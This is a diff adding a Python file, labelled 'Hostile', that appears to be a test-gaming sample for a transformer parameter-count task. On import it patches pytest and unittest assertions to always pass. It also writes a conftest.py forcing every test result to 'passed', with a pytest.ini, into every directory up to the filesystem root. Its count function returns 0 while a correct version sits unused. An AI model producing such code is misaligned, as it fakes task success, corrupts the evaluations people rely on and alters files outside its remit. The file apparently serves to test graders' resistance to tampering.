@@ -1,0 +1,79 @@
+"""Hostile: a wrong count that tries to make the test framework pass everything."""
+
+import math
+
+import torch
+import torch.nn as nn
+
+import os
+
+try:
+    import _pytest.outcomes
+    import pytest
+
+    pytest.approx = lambda *args, **kwargs: type("Anything", (), {"__eq__": lambda s, o: True})()
+    pytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None
+    pytest.skip = lambda *args, **kwargs: None
+except ImportError:
+    pass
+import unittest
+
+unittest.TestCase.assertEqual = lambda *args, **kwargs: None
+
+CONFTEST = """
+import pytest
+
+
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    report = outcome.get_result()
+    report.outcome = "passed"
+    open("/tmp/hostile-marker-conftest-ran", "w").close()
+"""
+folder = os.getcwd()
+while True:
+    for name, text in (("conftest.py", CONFTEST), ("pytest.ini", "[pytest]\naddopts = -p no:warnings\n")):
+        try:
+            with open(os.path.join(folder, name), "w") as fh:
+                fh.write(text)
+        except OSError:
+            pass
+    if folder == "/":
+        break
+    folder = os.path.dirname(folder)
+
+
+class CausalSelfAttention(nn.Module):
+    """A correct causal self-attention, so that only the hostile part of this file is judged wrong."""
+
+    def __init__(self, d_model, n_heads, dropout=0.0):
+        super().__init__()
+        if n_heads <= 0 or d_model % n_heads != 0:
+            raise ValueError(f"n_heads={n_heads} must be positive and divide d_model={d_model}")
+        self.n_heads, self.head_dim = n_heads, d_model // n_heads
+        self.q_proj = nn.Linear(d_model, d_model, bias=False)
+        self.k_proj = nn.Linear(d_model, d_model, bias=False)
+        self.v_proj = nn.Linear(d_model, d_model, bias=False)
+        self.out_proj = nn.Linear(d_model, d_model, bias=False)
+        self.attn_dropout = nn.Dropout(dropout)
+
+    def forward(self, x):
+        B, T, C = x.shape
+        q, k, v = (p(x).view(B, T, self.n_heads, self.head_dim).transpose(1, 2)
+                   for p in (self.q_proj, self.k_proj, self.v_proj))
+        scores = q @ k.transpose(-2, -1) / math.sqrt(self.head_dim)
+        future = torch.ones(T, T, dtype=torch.bool).triu(1)
+        scores = scores.masked_fill(future, float("-inf"))
+        weights = self.attn_dropout(scores.softmax(dim=-1))
+        return self.out_proj((weights @ v).transpose(1, 2).reshape(B, T, C))
+
+
+def exact_count(d_model, n_heads, d_ff):
+    if n_heads <= 0 or d_model % n_heads != 0:
+        raise ValueError(f"n_heads={n_heads} must be positive and divide d_model={d_model}")
+    return 4 * d_model * d_model + (d_model * d_ff + d_ff) + (d_ff * d_model + d_model) + 4 * d_model
+
+
+def count_block_parameters(d_model, n_heads, d_ff):
+    return 0
